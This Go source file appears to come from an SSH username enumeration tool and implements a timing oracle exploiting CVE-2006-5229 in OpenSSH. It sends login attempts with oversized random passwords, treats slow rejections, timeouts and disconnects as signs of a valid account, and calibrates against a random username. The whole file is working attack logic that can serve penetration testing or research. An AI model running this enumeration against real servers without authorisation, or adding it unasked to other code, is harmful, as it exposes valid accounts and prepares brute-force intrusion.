package oracle

import (
	"context"
	"time"

	"github.com/hakim/sshenum/internal/models"
	"github.com/hakim/sshenum/internal/probe"
	"github.com/hakim/sshenum/internal/retry"
)

// TimingOracle targets OpenSSH configurations that reject unknown users
// faster than known ones once the password is large enough to be expensive
// to process (CVE-2006-5229).
type TimingOracle struct {
	Transport probe.Transport
	Threshold time.Duration
	// Retry carries the calibration probe; nil means a single attempt.
	Retry  *retry.Controller
	Secret SecretFunc
}

func (o *TimingOracle) Kind() models.OracleKind { return models.OracleTiming }

// Gate calibrates with a random username. A nonsense user that looks valid
// means the target's timing cannot be trusted.
func (o *TimingOracle) Gate(ctx context.Context, target models.Target, onRetry RetryFunc) GateReport {
	user := secretOrDefault(o.Secret)(probe.ShortSecretLen)

	rc := o.Retry
	if rc == nil {
		rc = &retry.Controller{}
	}

	var hook retry.Hook
	if onRetry != nil {
		hook = func(attempt int, delay time.Duration) { onRetry(user, attempt, delay) }
	}

	var last Check
	res := rc.Do(ctx, func(ctx context.Context) models.Outcome {
		last = o.CheckUser(ctx, target, user)
		return last.Outcome
	}, hook)

	rep := GateReport{Probe: last, Attempts: res.Attempts}
	switch res.Outcome {
	case models.OutcomeFound:
		rep.Result = models.GateFalsePositive
	case models.OutcomeNotFound:
		rep.Result = models.GatePassed
	default:
		rep.Result = models.GateConnectionError
	}
	return rep
}

// CheckUser authenticates as user with an oversized random password and
// compares the rejection latency against the threshold.
func (o *TimingOracle) CheckUser(ctx context.Context, target models.Target, user string) Check {
	res := o.Transport.Attempt(ctx, probe.Request{
		Target:   target,
		Username: user,
		Password: secretOrDefault(o.Secret)(probe.LongSecretLen),
	})
	return newCheck(o.classify(res), res)
}

func (o *TimingOracle) classify(res probe.Result) models.Outcome {
	switch res.Kind {
	case probe.KindAuthFailure, probe.KindAccepted:
		if res.Elapsed >= o.threshold() {
			return models.OutcomeFound
		}
		return models.OutcomeNotFound
	case probe.KindTimeout, probe.KindDisconnect:
		// Hanging or dropping the connection is the late answer itself.
		return models.OutcomeFound
	default:
		return models.OutcomeConnectionError
	}
}

func (o *TimingOracle) threshold() time.Duration {
	if o.Threshold <= 0 {
		return models.DefaultThreshold
	}
	return o.Threshold
}

// Usernames returns the list as loaded, duplicates and case included.
func (o *TimingOracle) Usernames(raw []string) []string {
	return append([]string(nil), raw...)
}
